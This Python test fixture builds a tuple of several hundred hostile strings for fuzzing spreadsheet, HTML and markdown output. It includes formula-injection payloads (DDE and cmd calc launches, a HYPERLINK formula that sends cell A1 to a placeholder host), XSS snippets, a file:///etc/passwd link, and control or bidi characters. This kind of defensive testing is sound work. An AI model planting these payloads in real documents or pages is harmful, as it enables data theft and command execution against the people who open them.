"""Three hundred names and snippets that try to become a formula, markup, a link or a control."""

from __future__ import annotations

_INICIOS = (
    *("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", " =", "\u00a0=", "\ufeff="),
    *("\u200b=", "\0=", "'=", '"=', ";=", ",=", "x;=", "x,=", 'x";=', "x; +", "x\r\n=", "x\n@"),
)
_CORPOS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"abrir")',
    "1+1",
    "SUM(A1:A9);=cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://x.example")',
    "",
)
_MARCAS = (
    *("http://x.example", "https://x.example/a(b)", "www.x.example", "mailto:a@x.example"),
    *("ftp://x.example", "internal:Folha!A1", "external:c:\\x.xlsx", "file:///etc/passwd"),
    *("</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!--", "-->", "]]>"),
    *("<r><t>x</t></r>", '<r></is></c><c r="A9"><f>1+1</f></c><c><is></r>', "&amp;&#61;1"),
    *("[a](http://x.example)", "![a](x)", "[a]: x", "<http://x.example>", "[^1]", "- [ ] x"),
    *("# x", "## x", "> x", "- x", "+ x", "* x", "1. x", "1) x", "---", "===", "***", "```", "~~~"),
    *("`x`", "``", "`", "a`b``c```d", "**x**", "__x__", "*x", "_x_", "~~x~~", "a|b", "\\|", "\\"),
    *("| a | b |", "|---|", "x\\|`|x", "{{ 7*7 }}", "{% raw %}", "$x$", ":smile:", "@dono", "#12"),
    *("a\u202egpj.exe", "\u2066x\u2069", "a\u2028b\u2029c", "\x1b[31m", "\x1b]0;x\x07", "a\x9bb"),
    *("\0", "a\0b", "\x01\x02\x03", "\x0b\x0c", "\x7f", "\ud800", "a\udcffb", "\udfff\ud83d"),
    *("\ufffe", "a\uffff", "_x003D_1", "_x0000_", "\u00ad", "\U000e0041", "e\u0301" * 50),
    *("linha\nquebrada", "linha\r\nquebrada", "\r", "\n", "\t", " ", "  x  ", "\u3000x", "NaN"),
    *("1e999", "0123", "TRUE", "#REF!", "#N/A", "12/11/2026", "'", '"', "''", '"""', "(1)"),
    *("x" * 40_000, "=" + "1+" * 20_000, "😀" * 20_000, "\x1b" * 40_000, "`" * 40_000),
)
VENENOS: tuple[str, ...] = tuple(
    dict.fromkeys([*_MARCAS, *(inicio + corpo for inicio in _INICIOS for corpo in _CORPOS)])
) + tuple(f"{inicio}{numero}" for inicio in ("=A", "-", "+", "@x") for numero in range(10))
